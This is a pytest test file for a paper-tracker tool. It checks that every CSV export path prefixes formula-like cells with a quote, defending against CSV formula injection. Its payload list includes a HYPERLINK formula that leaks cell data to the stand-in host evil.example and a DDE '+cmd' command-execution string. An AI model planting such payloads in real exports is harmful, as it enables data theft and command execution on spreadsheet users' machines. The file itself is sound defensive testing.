"""CSV formula injection (issue 16 §4): no CSV this project writes carries a cell a spreadsheet would run.

Papers whose titles are formula payloads (tests/fixtures/bad_inputs/formula_cells.jsonl) and a review
correction that sets a model name to one are written out by every CSV writer: `tracker export`
(--out and -o), `tracker sql -f csv`, `tracker leaderboard -f csv`, `tracker review list -f csv` and
the dashboard's downloads (`csv_bytes`, `leaderboard_csv_text`). Each text cell that starts with
= + - @, tab or CR must start with a single quote instead; numbers (a value of -1.5) stay numbers;
`--raw` writes the cells as they are.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest

from conftest import FIXTURES, run_tracker
from tracker.output import FORMULA_START, csv_cell, csv_text, frame_csv

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-1+1",
    "\tTabbed title",
    "\rCarriage return title",
    "=1+1",
    "-",
]
LEFT_ALONE = [
    ("-1.5", "-1.5"), ("+3", "+3"), ("-2e-3", "-2e-3"), ("ResNet-50", "ResNet-50"), ("", ""),
    ("'=already quoted", "'=already quoted"), (" =leading space", " =leading space"), ("a=b", "a=b"),
    (-1.5, -1.5), (-3, -3), (None, None), (True, True),
]  # fmt: skip


@pytest.mark.parametrize("cell", PAYLOADS)
def test_formula_text_gets_a_quote_and_raw_keeps_it(cell):
    assert csv_cell(cell) == "'" + cell
    assert csv_cell(cell, raw=True) == cell


@pytest.mark.parametrize("cell, expected", LEFT_ALONE)
def test_numbers_and_plain_text_are_left_alone(cell, expected):
    assert csv_cell(cell) == expected


def test_header_and_rows_are_neutralised_in_csv_text_and_frames():
    rows = list(csv.reader(io.StringIO(csv_text(["=h", "value"], [["@x", -1.5], ["ok", "-2"]]))))
    assert rows == [["'=h", "value"], ["'@x", "-1.5"], ["ok", "-2"]]
    df = pd.DataFrame({"title": ["=cmd()", "fine"], "value": [-1.5, 2.0], "date": pd.to_datetime(["2024-01-02"] * 2)})
    rows = list(csv.reader(io.StringIO(frame_csv(df))))
    assert rows == [["title", "value", "date"], ["'=cmd()", "-1.5", "2024-01-02"], ["fine", "2.0", "2024-01-02"]]
    assert list(csv.reader(io.StringIO(frame_csv(df, raw=True))))[1][0] == "=cmd()"


def _dangerous(cells: list[str]) -> list[str]:
    return [c for c in cells if c.startswith(FORMULA_START) and csv_cell(c) != c]


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> Path:
    db = tmp_path_factory.mktemp("inj") / "inj.duckdb"
    proc = run_tracker("load", FIXTURES / "formula_cells.jsonl", "--db", db, "-q")
    assert proc.returncode == 0, proc.stderr
    board = run_tracker("leaderboard", "--dataset", "ImageNet-1K", "--metric", "top1_accuracy", "--db", db, "-f", "json")
    claim = json.loads(board.stdout.splitlines()[-1])["claim_id"]
    proc = run_tracker("review", "correct", claim, "--set", "model=@SUM(A1:A9)", "--set", "conditions==cmd()", "--db", db)
    assert proc.returncode == 0, proc.stderr
    return db


BOARD = ("--dataset", "ImageNet-1K", "--metric", "top1_accuracy")
WRITERS = {
    "export -o": lambda db, d, raw: (["export", "--db", db, *BOARD, "-o", d / "b.csv", *raw], d / "b.csv"),
    "export --out": lambda db, d, raw: (["export", "--db", db, "--out", d / "all", *raw], d / "all"),
    "sql -f csv": lambda db, d, raw: (["sql", "SELECT p.title, c.* FROM claims_effective c JOIN papers p USING (paper_id)",
                                       "--db", db, "-f", "csv", *raw], None),
    "sql -f csv -o": lambda db, d, raw: (["sql", "SELECT title, paper_id FROM papers", "--db", db, "-f", "csv",
                                          "-o", d / "q.csv", *raw], d / "q.csv"),
    "leaderboard -f csv": lambda db, d, raw: (["leaderboard", *BOARD, "--db", db, "-f", "csv", *raw], None),
    "review list -f csv": lambda db, d, raw: (["review", "list", "--db", db, "-f", "csv"], None),
}  # fmt: skip


def _written(proc, path: Path | None) -> str:
    if path is None:
        return proc.stdout
    if path.is_dir():
        return "".join(p.read_text(encoding="utf-8") for p in sorted(path.glob("*.csv")))
    return path.read_text(encoding="utf-8")


@pytest.mark.parametrize("writer", sorted(WRITERS))
def test_every_cli_csv_writer_neutralises_formula_cells(hostile_db, tmp_path, writer):
    args, path = WRITERS[writer](hostile_db, tmp_path, [])
    proc = run_tracker(*args)
    assert proc.returncode == 0, proc.stderr
    cells = _cells(_written(proc, path))
    assert not _dangerous(cells), _dangerous(cells)
    quoted = [c for c in cells if c.startswith("'") and c[1:2] in FORMULA_START]
    assert quoted, f"{writer}: none of the payloads reached the output: {cells[:40]}"


@pytest.mark.parametrize("writer", sorted(w for w in WRITERS if w != "review list -f csv"))
def test_raw_writes_the_cells_as_they_are(hostile_db, tmp_path, writer):
    args, path = WRITERS[writer](hostile_db, tmp_path, ["--raw"])
    proc = run_tracker(*args)
    assert proc.returncode == 0, proc.stderr
    assert _dangerous(_cells(_written(proc, path)))


def test_numbers_stay_numbers_in_exports(hostile_db, tmp_path):
    proc = run_tracker("sql", "SELECT -1.5 AS v, '-1+1' AS t, -3 AS i", "--db", hostile_db, "-f", "csv")
    assert proc.stdout.splitlines() == ["v,t,i", "-1.5,'-1+1,-3"]


def test_dashboard_downloads_are_neutralised(hostile_db):
    from dashboard.common import csv_bytes, leaderboard_csv_text
    from tracker.store import connect_readonly

    con = connect_readonly(hostile_db)
    try:
        df = con.execute("SELECT title, paper_id FROM papers").df()
    finally:
        con.close()
    cells = _cells(csv_bytes(df).decode("utf-8"))
    assert not _dangerous(cells) and "'@SUM(1+1)" in cells
    cells = _cells(leaderboard_csv_text(str(hostile_db), "ImageNet-1K", "top1_accuracy", None))
    assert not _dangerous(cells) and "'@SUM(A1:A9)" in cells


@pytest.mark.parametrize("write", [
    lambda rows: csv_text(["t", "v"], rows),
    lambda rows: frame_csv(pd.DataFrame(rows, columns=["t", "v"])),
])  # fmt: skip
def test_a_carriage_return_inside_a_cell_is_quoted_and_round_trips(write):
    text = write([["a\rb", 1.5], ["\rlead", 2.5], ["plain", -1.0]])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["t", "v"], ["a\rb", "1.5"], ["'\rlead", "2.5"], ["plain", "-1.0"]]
